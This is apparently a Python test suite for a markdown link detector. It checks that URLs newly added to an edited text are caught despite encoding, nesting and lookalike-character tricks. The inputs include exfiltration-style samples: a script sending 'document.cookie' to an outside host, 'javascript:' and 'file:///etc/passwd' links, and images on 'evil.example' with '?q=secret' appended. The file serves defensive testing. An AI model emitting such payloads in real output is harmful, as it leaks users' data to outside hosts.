"""No address slips into a text unseen, whatever renders it, and none is named that was there."""

import sys
from collections.abc import Callable
from itertools import pairwise

import pytest

from evals.edits.cases import cases
from redraft.markdown import Address, Kind, addresses, links_added

EVIL = "https://evil.example/p.png"


def kinds(text: str) -> dict[str, Kind]:
    return {each.text: each.kind for each in addresses(text)}


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("[a](https://x.org 'T') ![i](<b c.png>)", ["https://x.org", "b c.png"]),
        ("[a][r] and ![i][R]\n\n[r]: /ref", ["/ref"]),
        ("[unused]: https://x.org/1", ["https://x.org/1"]),
        ("<https://x.org> <mail@x.org>", ["https://x.org", "mailto:mail@x.org"]),
        ("see https://x.org/a_(b). www.y.org, ftp://z", ["https://x.org/a_(b)", "www.y.org", "ftp://z"]),
        ("<img src=a.png srcset='b.png 1x, c.png 2x'>", ["a.png", "b.png", "c.png"]),
        ("<div style=\"background: url('https://x.org/t.gif')\">", ["https://x.org/t.gif"]),
        ("text <a HREF = 'j&amp;k'>x</a>", ["j&k"]),
        ("<img src='https://x.org/open\n\ntext", ["https://x.org/open"]),
        ("![i](data:image/png;base64,AA)", ["data:image/png;base64,AA"]),
        ("[j](javascript:alert(1))", ["javascript:alert(1)"]),
        ("---\nimage: https://x.org/a.png\n---\n", ["https://x.org/a.png"]),
        ("a[^1]\n\n[^1]: note", []),
        ("a[^1]\n\n[^1]: https://x.org", ["https://x.org"]),
        ("[^1]: see [a](b)", ["b"]),
        ("| [a](b) |\n|---|\n| ![c](d) |", ["b", "d"]),
        ("`[a](b)`\n\n    https://x.org", ["https://x.org"]),
        ("[a]()", [""]),
        ("> - [a](b)", ["b"]),
        ('<meta http-equiv="refresh" content="0; url=/x">', ["/x"]),
        ("<meta http-equiv=refresh content=0;url=//x.org>", ["//x.org"]),
        ('<meta property="og:image" content="https://x.org/a.png">', ["https://x.org/a.png"]),
        ('<meta name="description" content="No address here">', []),
        ("<img srcset='//x.org/a, //x.org/b 2x'>", ["//x.org/a", "//x.org/b"]),
        ("<link rel=preload imagesrcset='//x.org/a 1.5x'>", ["//x.org/a"]),
        ("<img lowsrc=a longdesc='b' dynsrc=\"c\">", ["a", "b", "c"]),
        ("<a ping='https://x.org/p'>", ["https://x.org/p"]),
        ("<iframe srcdoc='&lt;img src=&quot;//x.org/1&quot;&gt;'>", ["//x.org/1"]),
        ("<style>@import '//x.org/a.css'; p { color: red }</style>", ["//x.org/a.css"]),
        ("<style>@import url(a.css)</style>", ["a.css"]),
        ("<p style='background: u\\72l(//x.org/1)'>", ["//x.org/1"]),
        ("<p style=\"background: image-set('//x.org/1' 1x)\">", ["//x.org/1"]),
        ("<script>\n// a remark\nfetch('//x.org/' + document.cookie)\n</script>", ["//x.org/"]),
        ("<b onclick=\"location='//x.org'\">", ["//x.org"]),
        ("<!-- <img src=//x.org> -->", ["//x.org"]),
        ("&#104;ttps://x.org", ["https://x.org"]),
        ("[a](&#0000000104;ttps&colon;//x.org)", ["https://x.org"]),
        ("https:\\/\\/x.org/p", ["https:\\/\\/x.org/p"]),
        ("<svg><use xlink:href='a.svg#b'/><image href=c /></svg>", ["a.svg#b", "c"]),
        ("<base href=//x.org> <object data=o><embed src=e>", ["//x.org", "o", "e"]),
        ("<form action='/f'><button formaction=g>", ["/f", "g"]),
        ("<video poster=p><body background=q><blockquote cite=r>", ["p", "q", "r"]),
        ("<Image src={'https://x.org/a'} /> <img src={`https://x.org/b`}>", ["https://x.org/a", "https://x.org/b"]),
        ("<a href='java\n\tscript:x'>", ["javascript:x"]),
        ("![[https://x.org/a.png|alt]] [[Note#part]]", ["https://x.org/a.png", "Note#part"]),
        ("[https://a.org](https://b.org), (https://c.org/a(b))", ["https://a.org", "https://b.org",
        "https://c.org/a(b)"]),
        ("tel:+84901234567 obsidian://open?x=1 vbscript:x", ["tel:+84901234567", "obsidian://open?x=1",
        "vbscript:x"]),
        ("file:///etc/passwd data:text/html,x mailto:a@x.org", ["file:///etc/passwd", "data:text/html,x",
        "mailto:a@x.org"]),
        ("write to ada@x.org", ["mailto:ada@x.org"]),
        ("请联系ada@x.org。", ["mailto:ada@x.org"]),
        ("请看https://x.org/p。", ["https://x.org/p"]),
        ("请看https://x.org/p，再说", ["https://x.org/p", "https://x.org/p，再说"]),
        ("_www.x.org (www.y.org", ["www.x.org", "www.y.org"]),
        ("ｈｔｔｐｓ：／／ｘ．ｏｒｇ", ["https://x.org"]),
        ("**https://x.org**, *//y.org/z*", ["https://x.org", "//y.org/z"]),
        ("evil.example/p and example.com", ["evil.example/p", "example.com"]),
    ],
)  # fmt: skip
def test_every_kind_of_address_is_found(text: str, links: list[str]) -> None:
    assert links_added("", text) == links


WRITTEN = [
    f"![]({EVIL})", f"[a]({EVIL})", f"![a\n]({EVIL})", f"<{EVIL}>", EVIL, f"<img src={EVIL}>", f"<IMG\nSRC='{EVIL}'",
    f"![[{EVIL}]]",
    f"<p style='background:url({EVIL})'>", "![](&#x68;ttps://evil.example/p.png)", "www.evil.example",
    "//evil.example/p.png",
    "x@evil.example", "[a](//evil.example)", "https://ev\u200bil.example/p.png",
    "<link rel=stylesheet href=//evil.example>",
]  # fmt: skip


@pytest.mark.parametrize(
    "around",
    [
        "{}", "> " * 21 + "{}", "- " * 11 + "{}", "1. " * 40 + "{}", "> - " * 500 + "{}", "    {}", "\t{}",
        "| {} |\n|---|",
        "```\n{}\n```", "```\n{}", "~~~ x\n{}\n~~~", "`{}`", "<!-- {} -->", "<div>\n{}\n</div>",
        "<details><summary>{}",
        "[" * 200 + "{}", "<a <b <c {}", "\\{}", "# {}", "[^1]: {}", ": {}", "$${}$$", "%%{}%%", "{{% {} %}}",
        "---\n---\n{}",
        "<!-- a\n{}", "<style>\n{}", "x\u200b{}", "\ufeff{}", "请看{}", "a`b {} c", "[a]: /b\n{}", "---\nx: {}\n---\n",
        ":::note\n{}\n:::", "<svg>{}</svg>", "**{}**", "~~{}~~", "=={}==", "_{}_", "({}", "\"{}\"", "«{}»",
        "\r\n\r\n{}\r\n",
    ],
)  # fmt: skip
def test_an_address_is_seen_wherever_it_is_put(around: str) -> None:
    seen = {each: links_added("Before.", around.replace("{}", each)) for each in WRITTEN}
    found = [
        each for each, links in seen.items() if any("evil.example" in link.replace("\u200b", "") for link in links)
    ]
    assert found == WRITTEN


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (f"See {EVIL}.", f"See ![]({EVIL})."),
        (f"See {EVIL}.", f"See [it]({EVIL})."),
        (f"See {EVIL}.", f"See <{EVIL}>."),
        (f"See [it]({EVIL}).", f"See ![it]({EVIL})."),
        (f"See <{EVIL}>.", f"<img src='{EVIL}'>"),
        (f"See `{EVIL}`.", f"See {EVIL}."),
        (f"`![]({EVIL})`", f"![]({EVIL})"),
        (f"```\n![]({EVIL})\n```\n", f"![]({EVIL})\n"),
        (f"```\n![]({EVIL})\n```\n", f"```\n```\n![]({EVIL})\n"),
        (f"a\n\n    ![]({EVIL})\n", f"a\n\n![]({EVIL})\n"),
        (f"```\n![]({EVIL})\n```\n", f"a\n\n    ![]({EVIL})\n"),
        (f"<!-- ![]({EVIL}) -->", f"![]({EVIL})"),
        (f"\\![a]({EVIL})", f"![a]({EVIL})"),
        (f"!\\[a]({EVIL})", f"![a]({EVIL})"),
        (f"\\<img src={EVIL}>", f"<img src={EVIL}>"),
        (f"&lt;img src={EVIL}>", f"<img src={EVIL}>"),
        (f"img src={EVIL}", f"<img src={EVIL}>"),
        (f"[a][r]\n\n[r]: {EVIL}", f"![a][r]\n\n[r]: {EVIL}"),
        (f"[a][r]\n\n[R]: {EVIL}", f"![r]\n\n[R]: {EVIL}"),
        (f"r\n\n[r]: {EVIL}", f"![r][]\n\n[r]: {EVIL}"),
        (f"[[{EVIL}]]", f"![[{EVIL}]]"),
        (f"<a href='{EVIL}'>", f"<img src='{EVIL}'>"),
        (f"<a href='{EVIL}'>", f"<link rel=stylesheet href='{EVIL}'>"),
        (f"See {EVIL}.", f"<style>p {{ background: url({EVIL}) }}</style>"),
        (f"title\n{EVIL}", f"---\nimage: {EVIL}\n---\ntitle"),
        (f"See {EVIL}.", "See ![](HTTPS://EVIL.example/%70.png)."),
        ("[a](/x)", "![a](/x)"),
        ("See https://evil.example/p", "See https://evil.example/P"),
        ("See https://evil.example/p", "See http://evil.example/p"),
        ("See https://evil.example/p", "See https://еvil.example/p"),
        ("See https://evil.example/p", "See https://evil.example/p?q=secret"),
        ("See https://evil.example/p", "See https://evil.example:444/p"),
        ("See https://evil.example/p", "See https://me@evil.example/p"),
        ("See https://evil.example/p", "See https://evil.example/p。q=secret"),
        ("See https://evil.example/p", "See https://evil.example/p\u200bq"),
    ],
)  # fmt: skip
def test_an_address_that_becomes_more_or_another_is_new(before: str, after: str) -> None:
    assert links_added(before, after)
    assert links_added(before, f"{after}\n\n{before}")


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (f"![a]({EVIL})\n\nText.", f"Text, and more.\n\n![a]({EVIL})"),
        (f"[a]({EVIL}) and b", f"b and [another word]({EVIL})"),
        (f"> [a]({EVIL})", f"- [a]({EVIL})"),
        (f"![a]({EVIL})", f"[a]({EVIL}), or {EVIL}"),
        ("https://x.org/a", "HTTPS://X.ORG/%61"),
        ("https://x.org", "https://x.org/"),
        ("https://bücher.example/ä", "https://xn--bcher-kva.example/%C3%A4"),
        ("[a](https://x.org/?a=1&b=2)", "[a](https://x.org/?a=1&amp;b=2)"),
        ("![a](b)", "![a](<b>)"),
        (f"```\ncurl {EVIL}\n```", f"```\ncurl -v {EVIL}\n```"),
        (f"`{EVIL}` is", f"`{EVIL}` was"),
        (f"[a][r]\n\n[r]: {EVIL}", f"[a][s]\n\n[s]: {EVIL}"),
    ],
)
def test_what_was_there_as_much_is_not_new(before: str, after: str) -> None:
    assert links_added(before, after) == []


@pytest.mark.parametrize(
    "text",
    [
        "It costs 3.50, e.g. at 10:30 (see note 1); and/or a/b.c: yes.", "See config.py, README.md and Node.js.",
        "He said: \"no\" - data: none, file: none.", "- [ ] a task\n- [x] done", "a < b && c > d; [sic] [1] [[1, 2]]",
        "```python\nhandlers[name](event)\nself.id = 3  #comment\n//console.log(1)\n```", "`a[0](b)` and `user.id`",
        "C:\\temp\\a.b",
        "std::vector<int> a;", "Mr.Smith went.It was late.", "@ada, #tag, 50%, 10€",
        "中文。没有链接，也没有地址：真的！",
        "a == b, x=1, data=5",
    ],
)  # fmt: skip
def test_prose_and_code_without_addresses_have_none(text: str) -> None:
    assert addresses(text) == []


def test_each_address_comes_once_with_the_most_that_is_done_with_it() -> None:
    text = "See https://a.org, [b](https://b.org), ![c](https://c.org) and [c](https://c.org), ![https://a.org](/d)"
    assert addresses(text) == [
        Address("https://a.org", Kind.TEXT),
        Address("https://b.org", Kind.LINK),
        Address("https://c.org", Kind.LOAD),
        Address("/d", Kind.LOAD),
    ]
    assert kinds("<https://x.org>")["https://x.org"] is Kind.LINK


def test_several_texts_can_have_been_before() -> None:
    assert links_added(["https://a.org", "![](https://b.org)"], "https://a.org https://b.org https://c.org") == [
        "https://c.org"
    ]


HOSTILE = [
    "[", "]", "](", "](a", "![", "![a](", "[a]: b\n", "[a]:", "[[", "![[a]]", "<", "<a ", "<a>", '<a "',
    "<img src=' ", "<a b='>' ",
    "src=", 'src="', "url(", "<svg>", "</style", "&", "&#104;", "&a", "`", "` ``", "```\n", "> ```\nx\n", "~~~\na\n",
    "http", "http:",
    "http://", "http:)", "a:a", "www.", "@", "a@b.c ", "//a.b", "a.b", "evil.com ", "https://x/(", "\\", "\\[",
    "| a | b |\n", "a\n===\n",
    "\n", " \n", "> ", "- ", "    a\n", "<!--", "<a srcdoc='&lt;a ", "%41", "=", "a= ", '"', "data:", "---\n",
    "https://xn--a.b ", "。", "．",
]  # fmt: skip


def steps(work: Callable[[], object]) -> int:
    """How many functions are called, Python's and C's."""
    count = 0

    def called(_frame: object, event: str, _argument: object) -> None:
        nonlocal count
        count += event in ("call", "c_call")

    sys.setprofile(called)
    try:
        work()
    finally:
        sys.setprofile(None)
    return count


@pytest.mark.parametrize("piece", HOSTILE)
def test_twice_the_text_is_twice_the_work(piece: str) -> None:
    sizes = [2_000, 4_000, 8_000]
    counted = [steps(lambda size=size: addresses(piece * (size // len(piece)))) for size in sizes]  # type: ignore[misc]
    assert all(more <= 2.2 * less + 200 for less, more in pairwise(counted))


@pytest.mark.parametrize("piece", HOSTILE)
def test_a_long_hostile_text_is_read_to_its_end(piece: str) -> None:
    """Within a search no steps can be counted: one that went back and forth would not end here in minutes."""
    text = piece * (100_000 // len(piece)) + f"\n\n![]({EVIL})"
    assert any("evil.example" in each.text for each in addresses(text))


def test_thousands_of_digits_are_no_character() -> None:
    assert "https://x.org" in kinds("&#" + "0" * 9_000 + "104;ttps://x.org &#" + "9" * 9_000 + ";")


def test_edits_as_people_ask_for_them_name_only_what_is_really_new() -> None:
    edits = [case for which in ("public", "own") for case in cases(which) if case.get("reference")]
    assert len(edits) > 100
    added = {each["id"]: links_added(each["editing"], each["reference"]) for each in edits}
    named = [(each, link) for each in edits for link in added[each["id"]]]
    assert [link for each, link in named if link.removeprefix("mailto:") in each["editing"]] == []
    assert len(named) < len(edits) / 20
